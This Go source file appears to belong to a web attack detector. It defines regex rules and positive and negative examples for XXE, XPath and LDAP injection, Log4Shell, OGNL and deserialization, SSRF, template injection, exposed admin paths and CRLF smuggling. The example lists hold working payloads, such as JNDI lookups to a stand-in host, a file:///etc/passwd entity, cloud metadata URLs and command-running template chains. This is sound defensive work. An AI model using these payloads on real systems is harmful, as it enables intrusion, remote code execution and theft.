package attack

import "bytes"

var serverKinds = []Kind{
	{
		ID: XMLInjection, Name: "xml_injection", Title: "XML injection",
		rules: []rule{
			{words: "<!doctype", form: `<!doctype[^>\[]{0,200}\[\s*(?:<!|%)`, where: inValue | inBody},
			{words: "<!entity", form: `<!entity\s+(?:%\s*)?[\w.-]+\s+(?:system|public|['"])`, where: inValue | inBody},
			{words: "<xi:include", form: `<xi:include\b`, where: inValue | inBody},
			{words: "<!doctype",
				form: `<!doctype\s+[\w:.-]+\s+system\s+['"](?:https?|file|ftp|gopher|php|expect|data|jar):|<!doctype\s+[\w:.-]+\s+(?:system|public\s+['"][^'"]*['"])\s+['"](?:file|ftp|gopher|http://(?:127|169|10|` +
					`192)|php|expect):?`, where: inValue | inBody},
			{words: "<?xml-stylesheet", form: `<\?xml-stylesheet\b[^>]*href\s*=\s*['"](?:https?|ftp|file|data|javascript):`, where: inValue | inBody},
			{words: "//", need: "]|", form: `['"]\s*\]\s*\|\s*//?|['"]\s*\)*\s*(?:or|and)\s+(?:/|position\s*\(|last\s*\()`, most: short},
			{words: "contains( starts-with( local-name( position( last( substring( boolean( normalize-space(", need: "'\"", form: `['"]\s*\)*\s*(?:or|and)\s+(?:not\s*\(\s*)?(?:contains|starts-with|local-name|position|last|boolean|normalize-space|substring)\s*\(`, most: short},
			{words: "~/ ~//", need: "'\"", form: `['"]\s*\)*\s*(?:or|and)\s+/{1,2}[\w*]+[/\[]`, most: short},
			{words: "<xsl:",
				form:  `<xsl:(?:value-of|stylesheet|variable).{0,200}(?:php:function|document\(|system-property|runtime)`,
				where: inValue | inBody},
			{words: "count(/ name(/ /text() string-length(",
				form: `['"]\s*\)*\s*(?:or|and)\s+(?:count|name|string-length|substring)\s*\(\s*/|['"]\s*\]\s*\|\s*//?`,
				most: short},
		},
		Finds: []Example{
			xmlBody(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
			xmlBody(`<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://x/e.dtd"> %p; ]><r/>`),
			xmlBody(`<a xmlns:xi="x"><xi:include href="file:///etc/hosts" parse="text"/></a>`),
			xmlBody(`<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><l>&b;</l>`),
			q("u=%27%20or%20count(/*)%3D1%20or%20%27"), q("u='+or+//user/text()%3D'a'+or+'"), q("u='+or+starts-with(role,'a')+or+'"),
		},
		Ignores: []Example{
			j(`{"html":"<!DOCTYPE html><html><body>x</body></html>"}`), xmlBody(`<?xml version="1.0"?><note><to>A</to></note>`),
			j(`{"h":"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-s` +
				`trict.dtd\">"}`),
		},
	},
	{
		ID: WebAppVulnerability, Name: "web_app_vulnerability", Title: "Web application vulnerability",
		rules: []rule{
			{words: "${jndi ${${ ${j${ ${jn${ ${jnd${ ${lower: ${upper: ${env: ${sys: ${:: ${date:",
				form:  `\$\{\s*(?:jndi\s*:|\$\{|(?:lower|upper):[^}]{0,8}\}?|::-\w\}|(?:env|sys):[^}]{0,40}:-)|\$\{[a-z]{1,5}\$\{[^}]{0,40}\}[a-z]{0,5}(?:\$\{|:)`,
				where: inValue | inPath},
			{words: "${script: ${dns: ${url:", form: `\$\{(?:script:\w+:|dns:|url:[\w-]+:)`, where: inValue | inPath},
			{words: "#_memberaccess #context ognl @java.lang (#",
				form:  `#_memberaccess|ognl\.ognlcontext|@java\.lang\.\w+@|[%$]\{\s*\(?#\w+\s*=|#context\s*\[|\(#\w+=#`,
				where: inValue | inPath},
			{words: "class.module.classloader class.classloader class['classloader",
				form: `class\.(?:module\.)?classloader|class\[['"]classloader`, where: inKey | inValue},
			{words: "t(java.lang new~java.lang.processbuilder getruntime()", form: `\bt\(\s*java\.lang\.|` +
				`new java\.lang\.processbuilder|getruntime\(\)\s*\.\s*exec`, most: short},
			{words: "invokefunction think\\app call_user_func_array eval-stdin.php allow_url_include",
				form: `invokefunction|\\think\\|think\\app|call_user_func_array&|` +
					`phpunit/.*eval-stdin\.php|allow_url_include`, where: inValue | inPath},
			{words: "ro0ab", form: `^ro0ab[a-z0-9+/]{10,}`, where: inValue | inBody | inHeader},
			{words: "!!python/ !!javax. !!java. !!ruby/ !ruby/ !!com. !!org.", form: `!!?(?:python/(?:object|name|module)|javax?\.|ruby/|com\.|org\.)`,
				where: inValue | inBody},
			{words: "process.mainmodule global.process process.exit( process.binding child_process _$$nd_func system.diagnostics.process",
				form: `process\s*\.\s*(?:mainmodule|exit\s*\(|binding\s*\()|global\.process|require\s*\(?\s*['"]child_process|_\$\$nd_func|system\.diagnostics\.process(?:\.start|startinfo)`,
				most: short},
			{words: "phpinfo( md5(", form: `^[;{$@\s]*phpinfo\s*\(\s*-?\d*\s*\)|^[;\s]*(?:print|echo|printf|var_dump)\s*\(?\s*md5\s*\(`, most: short},
			{words: "__construct", form: `^__construct$`},
			{words: "v.template", form: `^v\.template`, where: inKey},
			{words: "v.template. spring.cloud.function", form: `spring\.cloud\.function\.routing`, where: inKey | inHeader},
			{words: "<!--#", form: `<!--\s*#\s*(?:exec|include|echo|config|printenv|set|flastmod|fsize)\b`, where: inValue | inBody | inPath},
			{words: "com.sun.rowset javax.naming com.sun.org.apache org.apache.commons.collections org.apache.xbean org.apache.ibatis org.apache.shiro ch.qos.logback com.mchange java.lang.autocloseable " +
				"org.springframework.context.support",
				form: `^(?:com\.sun\.(?:rowset|org\.apache|jndi)\.|ch\.qos\.logback\.core\.db\.|com\.mchange\.v2\.|javax\.(?:naming|management)\.|` +
					`org\.apache\.(?:commons\.collections|xbean|ibatis|shiro)\.|java\.lang\.(?:autocloseable|runtime)|` +
					`org\.springframework\.context\.support)[\w.$]*$`},
			{words: "o:", form: `^(?:a:\d+:\{.{0,60})?o:\+?\d+:"[\w\\]+":\d+:\{`},
			{words: "java.beans java.lang.processbuilder java.lang.runtime", need: "=", form: `\b(?:class|type)\s*=\s*["']java\.(?:lang\.(?:runtime|processbuilder)|beans\.(?:xmldecoder|eventhandler))`, where: inValue | inBody},
			{words: "type class", need: "{", form: `['"][@$]?(?:type|class)['"]\s*:\s*['"]l?(?:com\.sun\.(?:rowset|org|jndi)|org\.apache\.(?:xbean|commons|ibatis|shiro|tomcat)|javax\.(?:naming|management|script)|java\.lang\.(?:auto|runtime|process|class)|ch\.qos\.logback|com\.mchange|org\.springframework\.)`, most: short},
			{words: "objectdataprovider system.diagnostics.process system.security.principal.windowsidentity system.management.automation", form: `^system\.(?:windows\.data\.objectdataprovider|diagnostics\.process|security\.principal\.windowsidentity|management\.automation\.)[\w.]*(?:$|,)`},
			{words: "(s' (s\" (v", form: `^c(?:os|posix|nt|subprocess|__builtin__|builtins|commands|sys)(?:\n|\\n)\w+(?:\n|\\n)[(V]`, most: short},
			{words: "__proto__ constructor[prototype constructor.prototype",
				form: `^__proto__$|\b__proto__[\[.]|constructor(?:\[|\.)prototype`, where: inKey},
			{words: "/wls-wsat/ /_async/ /..;/ /solr/admin /vendor/phpunit /boaform/ /gponform/ /hnap1 /cgi-bin/luci " +
				"/cgi-bin/.% /autodiscover/autodiscover.json " +
				"/remote/fgt_lang /dana-na/ /tmui/ /mgmt/tm/ /owa/auth/x.js /invoker/ /console/css/ /struts2-rest /ofbiz " +
				"/webtools/control",
				form: `/wls-wsat/|/_async/asyncresponse|/\.\.;/|/vendor/phpunit/|/boaform/|/gponform/|/hnap1\b|/remote/fgt_lang|` +
					`/dana-na/\.\.|/tmui/|/mgmt/tm/util/bash|` +
					`/invoker/(?:jmx|ejb|readonly)|/console/css/%|autodiscover\.json.*powershell|/webtools/control/\w*(?:xmlrpc|` +
					`programexport)`, where: inPath},
		},
		Finds: []Example{
			h("User-Agent: ${jndi:ldap://x.example/a}"), q("x=${${lower:j}ndi:ldap://x/a}"),
			form("class.module.classLoader.resources.context.parent=1"),
			h("Content-Type2: %{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT)}",
				"X-Api-Version: %{(#a=@java.lang.Runtime@getRuntime())}"),
			j(`{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}`),
			p("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
			form("d=O:8:\"Exploit1\":1:{s:1:\"a\";}"), q("__proto__[admin]=1"), q("d=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
			q("x=${j${a:-n}di:ldap://x/a}"), q("x=${url:UTF-8:http://x/}"), q("d=O:%2B4:%22Evil%22:0:{}"), form("d=cos%0Asystem%0A(S'ls'%0AtR."), xmlBody(`<java><object class="java.lang.ProcessBuilder"/></java>`),
			j(`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`), q("d={%22@type%22:%22org.apache.shiro.x.Y%22}"), h("X-Data: TzozOiJGb28iOjE6e3M6MToiYSI7aToxO30="),
		},
		Ignores: []Example{
			j(`{"t":"price is ${amount} for ${user.name}"}`), q("q=log4j+jndi+explained"),
			j(`{"class":"com.acme.Order","a":1}`), j(`{"proto":"http"}`),
			j(`{"t":"o:3: notes"}`), j(`{"data":"rO1BX"}`), j("{\"js\":\"const a = `${b ? `${c}` : d}`\"}"), j("{\"t\":\"cos\\nsin (x)\"}"),
		},
	},
	{
		ID: LDAPInjection, Name: "ldap_injection", Title: "LDAP injection",
		rules: []rule{
			{words: ")( )(| )(& *)",
				form: `\*\s*\)\s*\(\s*[\w|&!-]|\)\s*\(\s*[|&!]\s*[()]|^[\w*]{0,30}\)\s*\(\s*[\w-]{2,30}\s*[~<>]?=|` +
					`\)\s*\(\s*(?:objectclass|uid|cn|userpassword|mail)\s*=\s*\*`,
				check: closesFirst},
			{words: "*(|( *()| *()& *)(", form: `^\w{0,20}\*\s*\(\s*[|&!]\s*\(\s*\w+\s*=|^\*\(\)[|&]`, most: short},
			{words: "*)", form: `^\*\)\s*[()]|^\w{0,20}\*\)\)`, most: short},
		},
		Finds: []Example{
			q("user=*)(uid=*))(%7C(uid=*"), q("user=admin)(%26)"), q("u=*)(objectClass=*"), form("user=admin)(cn=*&pass=x"),
			q("user=*))"), q("u=x)(|(cn=*)"),
		},
		Ignores: []Example{
			q("filter=(%26(objectClass=user)(cn=anna))"), q("f=(a%2Bb)(c-d)"), j(`{"t":"Call me :-) (or not) (maybe = y` +
				`es)"}`), q("f=foo(*)"), j(`{"t":"see f(x)(y)"}`),
		},
	},
	{
		ID: SSRF, Name: "ssrf", Title: "SSRF",
		rules: []rule{
			{words: "gopher:// dict:// netdoc:// jar:http jar:file tftp://",
				form: `^\s*(?:url:)?(?:gopher|dict|netdoc|tftp|jar:(?:https?|file))://?`},
			{words: "unix:/", form: `^\s*unix:/+\S+\.sock`},
		},
		Finds: []Example{
			q("url=http://169.254.169.254/latest/meta-data/"), q("url=gopher://127.0.0.1:6379/_INFO"),
			j(`{"image":"http://metadata.google.internal/computeMetadata/v1/"}`),
			q("u=http://2130706433/"), q("u=http://[::1]:80/"), q("u=http://127.0.0.1:22"), q("u=http://localhost:6379/"),
			q("u=dict://x:11211/stat"), q("u=http:%5C%5C127.0.0.1%5Cadmin"), q("u=unix:/run/a.sock"), q("u=http://0x7f000001/"),
		},
		Ignores: []Example{
			q("url=https://www.example.com/a.png"), q("redirect_uri=http://localhost:3000/callback"),
			j(`{"server":"http://10.0.0.5/app"}`), j(`{"t":"see ldap://x and gopher://y"}`),
			q("q=169.254.169.254"), j(`{"link":"http://example.com/0x7f/2130706433"}`),
		},
	},
	{
		ID: SSTI, Name: "ssti", Title: "Server-side template injection",
		rules: []rule{
			{words: "{{", at: "{{",
				form: `\{\{[-\s]*(?:\(?\s*['"]?\d+['"]?\s*\*\s*['"]?\d+|config(?:\.items|\s*\}|\.__|\[)|self\b[.\[_]|` +
					`request\.(?:application|__|environ)|` +
					`['"(\[].{0,6}[)\]]?\s*\.\s*__|\w+\.__|['"]{2}\.|\[\]\.|_self\.|settings\.secret|config\.secret|lipsum|cycler|joiner|namespace\.|constructor|` +
					`['"].{0,40}['"]\s*\|\s*(?:filter|map|system|passthru)|\$on\.constructor|` +
					`.{0,60}(?:__class__|__globals__|__import__|\.constructor))`, where: inValue | inPath},
			{words: "${",
				form: `\$\{\s*(?:\(?\d+\s*[*+]\s*\d+\)?\s*\}|t\(java|['"]{2}\.getclass|\w+\.getclass\(|class\.forname|new java|` +
					`"freemarker|product\.getclass|#this)`, where: inValue | inPath},
			{words: "{{", at: "{{", form: `\{\{[^}]{0,80}\|\s*(?:filter|sort|map|reduce|attr|join)\s*\(\s*['"]|\{\{\s*=?\s*\d+\s*[*+-]\s*['"]?\d|` +
				`\{\{[^}]{0,40}(?:app\.request|dump\s*\(|request\s*\||getenv|popen|system\s*\(|readfile|include\s*\()`, where: inValue | inPath},
			{words: "{{", at: "{{", form: `\{\{\s*(?:@\s*\d+\s*[*+]|['"][^'"{}]{0,20}['"]\s*\.\s*\w+\s*\(|self\s*\}|#with\s+["'][^"']*["']\s+as\s*\||\.system\s+["'])`, where: inValue | inPath, most: short},
			{words: "@(", form: `(?:^|\})\s*@\(\s*\d+\s*[*+]\s*\d+\s*\)`, most: short},
			{words: "getclass( ${{ {{<%", form: `\.getclass\(\)|\$\{\{<%|\{\{<%\[`, most: short},
			{words: "{php} {system( {exec( {$smarty", form: `\{php\}|\{(?:system|exec|passthru|fetch|math)\s*\(|\{\$smarty\.`, most: short},
			{words: "#{", at: "#{", form: `#\{\s*(?:\d+\s*\*\s*\d+\s*\}|.{0,60}getclass\(|session\.setattribute|.{0,20}system\()`,
				where: inValue | inPath},
			{words: "<%=", form: "<%=\\s*(?:\\d+\\s*[*+]\\s*\\d+|system\\s*\\(|file\\.|dir\\.|io\\.popen|`|global\\.process)",
				most: short},
			{words: "{%",
				form: `\{%-?\s*(?:print\s*\(?\s*(?:\d+\s*[*+]|['"(]|\w+\.__)|import\s+os|debug|include\s+['"]/|for\s+\w+\s+in\s+(?:\[\]|\(\)|'')\.__|if\s+['"]{2}\.__|` +
					`set\s+.{0,40}__)`},
			{words: "__subclasses__ __mro__ __globals__ __builtins__",
				form: `__(?:class|mro|base|subclasses|globals|builtins|init|import)__.{0,40}(?:__|\[|\()`, most: short},
			{words: "<#assign #set( freemarker.template.utility @( *{",
				form: `<#assign\s+\w+\s*=\s*['"]freemarker\.template\.utility|#set\s*\(\s*\$\w+\s*=.{0,60}(?:getclass|forname|` +
					`runtime|\d+\s*\*\s*\d+)|^@\(\s*\d+\s*[*+]\s*\d+\s*\)$|^\*\{\s*(?:\d+\s*\*|t\(java)`},
		},
		Finds: []Example{
			q("name=%7B%7B7*7%7D%7D"), q("n=${7*7}"), q("n=%7B%7Bconfig.items()%7D%7D"),
			q("n=%7B%25print(7*7)%25%7D"),
			j(`{"n":"{{''.__class__.__mro__[1].__subclasses__()}}"}`), q("n=%23%7B7*7%7D"),
			q("n=%3C%25=%207*7%20%25%3E"), q("n={{'b'.toUpperCase()}}"), q("n={{@3*3}}"), q("n={{self}}"), q("n=@{var+a}@(3*3)"), j(`{"n":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}`),
			j(`{"n":"{{_self.env.registerUndefinedFilterCallback('exec')}}"}`),
		},
		Ignores: []Example{
			j(`{"t":"Hello {{name}}, your order {{order.id}} is ready"}`), j(`{"t":"cost: ${price} / #{count}"}`),
			j(`{"css":"a{b:c}} {{d}}"}`), q("q=7*7"),
			j(`{"math":"{x : 7*7 = 49}"}`), j(`{"t":"{% if user %}hi{% endif %}"}`), j(`{"t":"call obj.__init__ first"}`),
		},
	},
	{
		ID: UnauthorizedAccess, Name: "unauthorized_access", Title: "Unauthorized access vulnerability",
		rules: []rule{
			{words: "/actuator /heapdump /jolokia /env",
				form: `/actuator/(?:env|heapdump|threaddump|beans|mappings|configprops|loggers|httptrace|trace|dump|jolokia|` +
					`gateway|shutdown|restart|logfile|auditevents|sessions)|^/(?:heapdump|jolokia(?:/|$))`, where: inPath},
			{words: "/druid/ /nacos/ /xxl-job-admin /solr/ /jenkins/ /manager/ /h2-console /phpmyadmin /pma/ /adminer " +
				"/server-status /server-info /hazelcast /eureka/ /jmx-console /web-console /zabbix",
				form: `/druid/(?:index|websession|weburi|login|sql|datasource)|/nacos/v1/(?:auth|cs|ns|core)|/xxl-job-admin/|` +
					`/solr/(?:admin|[\w.-]+/(?:config|dataimport))|/jenkins/(?:script|manage)|/manager/(?:html|text|status)|` +
					`/h2-console|/phpmyadmin|^/pma/|/adminer(?:-[\d.]+)?(?:\.php|$)|/server-(?:status|info)$|/(?:jmx|web)-console|` +
					`/zabbix/(?:jsrpc|zabbix|setup)`, where: inPath},
			{words: "/v2/api-docs /v3/api-docs /swagger /api-docs /doc.html /knife4j",
				form:  `/v[23]/api-docs|/swagger-ui(?:\.html|/|$)|/swagger-resources|/swagger/(?:index\.html|v\d)|/doc\.html$`,
				where: inPath},
			{words: "/_cat/ /_cluster/ /_nodes /_plugin/ /containers/json /v1/agent/ /v1/kv/ /api/v1/pods /debug/pprof " +
				"/console/ /script /asynchpeople /systeminfo",
				form: `^/_(?:cat/(?:indices|nodes|shards)|cluster/(?:health|settings|state)|nodes(?:/|$)|plugin/head)|` +
					`/containers/json$|^/v1/agent/(?:self|members)|^/debug/pprof|/console/login/loginform\.jsp|^/asynchpeople|` +
					`^/systeminfo$`, where: inPath},
			{words: "/setup-config.php /install.php /wp-admin/ /config.php /telescope /host-manager /xmlrpc.php /hudson /eureka/ /cfide/ /axis2 /cgi-bin/ /wp-json/ /jolokia /secrets /_catalog /env /_profiler /_debugbar /elmah.axd " +
				"/trace.axd /phpinfo /info.php /_ignition",
				form: `/host-manager/(?:html|text)|/xmlrpc\.php$|^/hudson/?(?:script|login|$)|/eureka/apps|/cfide/(?:administrator|adminapi|componentutils)|` +
					`/axis2/(?:axis2-admin|axis2-web)|/cgi-bin/(?:test-cgi|printenv|php|test\.cgi|status|\.)|/wp-json/wp/v2/users/?$|/jolokia(?:/|$)|` +
					`/api/v1/(?:namespaces/[\w-]+/)?secrets$|^/v2/_catalog$|^/env/?$|/wp-admin/(?:setup-config|install)\.php|/telescope/requests|/_profiler/|/_debugbar/|/(?:elmah|` +
					`trace)\.axd|/phpinfo(?:\.php)?$|/info\.php$|/_ignition/execute`, where: inPath},
		},
		Finds: []Example{
			p("/actuator/env"), p("/actuator/heapdump"), p("/druid/index.html"), p("/nacos/v1/auth/users"),
			p("/swagger-ui.html"), p("/v2/api-docs"), p("/phpmyadmin/index.php"),
			p("/_cat/indices"), p("/h2-console/login.do"), p("/manager/html"), p("/server-status"),
		},
		Ignores: []Example{
			p("/actuator/health"), p("/actuator/prometheus"), p("/api/environments"), p("/api/managers/html"), p("/druids/1"),
			p("/api/docs"), p("/consoles"), p("/_search"), p("/api/v1/status"),
		},
	},
	{
		ID: NonCompliantProtocol, Name: "non_compliant_protocol", Title: "Non-compliant protocol",
		rules: []rule{
			{words: "set-cookie location content-type content-length http/1 x- refresh",
				form:  `[\r\n]\s*(?:set-cookie|location|content-type|content-length|x-[\w-]+|refresh)\s*:|[\r\n]\s*http/1\.[01]`,
				where: inRaw},
			{words: "set-cookie location: content- refresh: http/1", need: "\n", form: `^\S{0,80}\s*\n\s*(?:set-cookie|location|content-(?:type|length)|refresh)\s*:|^\S{0,80}\s*\n\s*http/1\.`,
				where: inValue | inHeader | inPath, most: short, whole: notLines},
			{words: "bcc cc: to: subject from: content-type mime-version", need: "\n", form: `^\S+@\S+\s*\n\s*(?:b?cc|to|subject|from|content-type|mime-version)\s*:`, most: short},
			{words: "嘊嘍 嘍嘊", where: inRaw | inPath | inCookie}, // U+560A and U+560D, which some writers cut to a line break
		},
		Finds: []Example{
			form("n=a%0d%0aSet-Cookie:%20b=1"), form("mail=a@example.com%0aBcc:b@example.com"), q("u=%E5%98%8A%E5%98%8DSet-Cookie:a"), q("u=a%0d%0aSet-Cookie:%20x=1"), h("Content-Length: 5", "Content-Length: 6"), h("Content-Length: 5",
				"Transfer-Encoding: chunked"), {Method: "GE T"}, p("/a%00.jpg"), p("/a%c0%af..%c0%afb"),
			h("Transfer-Encoding: xchunked"), h("Bad Name: x"),
		},
		Ignores: []Example{
			j(`{"t":"line one\nContent follows: x\n"}`), j(`{"t":"X-Ray\nX-Files: all seasons\nand more\nof it"}`), form("to=a@example.com%0d%0ab@example.com"), h("Content-Length: 5"), h("Transfer-Encoding: chunked"),
			p("/caf%C3%A9"), {Method: "PROPFIND"}, q("q=100%25"),
		},
	},
}

// notLines rejects text of several lines, such as a message that shows headers.
func notLines(text []byte) bool { return bytes.Count(text, []byte("\n")) < 4 }

// closesFirst reports that a bracket is closed which the value did not open, as it must to
// leave the filter it is put into, or that a second filter follows a whole one.
func closesFirst(text []byte, at, _ int) bool {
	depth := 0
	for i, c := range text {
		switch c {
		case '(':
			if depth == 0 && i > at && i > 0 && at > 0 {
				return len(text) < 300
			}
			depth++
		case ')':
			if depth--; depth < 0 {
				return len(text) < 300
			}
		}
	}
	return false
}
